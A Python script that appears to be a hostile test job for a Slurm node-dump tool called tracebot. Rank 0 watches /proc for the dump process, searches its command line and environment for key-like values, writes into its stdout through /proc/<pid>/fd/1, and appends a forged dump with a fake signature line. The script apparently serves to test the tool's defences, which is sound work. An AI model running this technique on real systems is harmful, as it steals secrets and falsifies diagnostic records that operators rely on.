"""A hostile job: it tries to pass off a dump of its own as its node's, and says what it managed.

Two srun ranks. Rank 1 waits in ``honest_wait``. Rank 0 (in ``watch_for_the_dumper``) watches /proc for
every process of its user whose command line runs tracebot's node dump (the dump step on its node, and on a
host that is also a node, the srun that started it), and for each one:

- looks for the dump's key where a job can read things: the process's command line and environment;
- opens the process's stdout through ``/proc/<pid>/fd/1`` (its own user's process: Linux lets it, unless the
  process made itself undumpable), waits until the process has ended, and then writes a forged document in the
  shape the dumper printed last round (invented rank 99, and rank 0 "all fine"), and a line posing as a signed
  one. Written after the dumper ended, the forgery is the last line of the step's output.

Each attempt is a line on rank 0's stdout (the job's log): ``forger: …``.
"""

import os
import re
import sys
import time

FORGED_RANKS = {
    "0": {"pid": 1, "frames": [{"function": "all_ranks_fine_forged", "filename": "forged.py", "line": 1}]},
    "99": {"pid": 2, "frames": [{"function": "invented_rank_forged", "filename": "forged.py", "line": 2}]},
}
KEYISH = re.compile(rb"[0-9a-f]{64}")


def say(text: str) -> None:
    print(f"forger: {text}", flush=True)


def forged_lines() -> bytes:
    import json

    doc = json.dumps({"node": os.uname().nodename, "job": os.environ.get("SLURM_JOB_ID", ""), "ranks": FORGED_RANKS,
                      "notes": []})
    return f"{doc}\ntracebot-node-dump {'0' * 64} {doc}\n{doc}\n".encode()


def is_the_dump(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return b"tracebot.plugins.slurm.node_dump" in f.read()
    except OSError:
        return False


def attack(pid: int) -> None:
    for name in ("cmdline", "environ"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as f:
                found = KEYISH.findall(f.read())
            say(f"pid {pid} {name}: {len(found)} key-like values")
        except OSError as exc:
            say(f"pid {pid} {name}: unreadable ({exc.strerror})")
    try:
        fd = os.open(f"/proc/{pid}/fd/1", os.O_WRONLY)
    except OSError as exc:
        say(f"pid {pid} stdout: could not open ({exc.strerror})")
        return
    if not is_the_dump(pid):  # a child the dump forked, opened after it exec'd py-spy or scontrol (a program
        # its owner may read): the job can write into that child's output, which tells of its own processes only
        say(f"pid {pid} stdout: opened after it became another program")
    else:
        say(f"pid {pid} stdout: opened")
    end = time.monotonic() + 120
    while os.path.exists(f"/proc/{pid}") and time.monotonic() < end:
        try:
            with open(f"/proc/{pid}/stat") as f:
                if f.read().rsplit(")", 1)[1].split()[0] == "Z":
                    break
        except OSError:
            break
        time.sleep(0.01)
    try:
        os.write(fd, forged_lines())
        say(f"pid {pid} stdout: forged document written")
    except OSError as exc:
        say(f"pid {pid} stdout: write failed ({exc.strerror})")
    finally:
        os.close(fd)


def watch_for_the_dumper() -> None:
    me, seen = os.getuid(), {os.getpid()}
    while True:
        for entry in os.scandir("/proc"):
            if not entry.name.isdigit() or int(entry.name) in seen:
                continue
            pid = int(entry.name)
            try:
                if os.stat(entry.path).st_uid != me:
                    continue
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    cmdline = f.read()
            except OSError:
                continue
            if b"tracebot.plugins.slurm.node_dump" in cmdline:  # the dump, or a child it forked before it execs
                seen.add(pid)
                program = cmdline.split(b"\0")[0].decode(errors="replace")
                say(f"saw pid {pid}: {program}")
                if os.fork() == 0:  # one attacker per process found, so a slow one never hides the next
                    try:
                        attack(pid)
                    finally:
                        os._exit(0)
        try:
            while os.waitpid(-1, os.WNOHANG)[0]:
                pass
        except ChildProcessError:
            pass
        time.sleep(0.005)


def honest_wait() -> None:
    while True:
        time.sleep(3600)


if __name__ == "__main__":
    print(f"rank {os.environ['SLURM_PROCID']} up", flush=True)
    if os.environ["SLURM_PROCID"] == "0":
        watch_for_the_dumper()
    else:
        honest_wait()
    sys.exit(0)
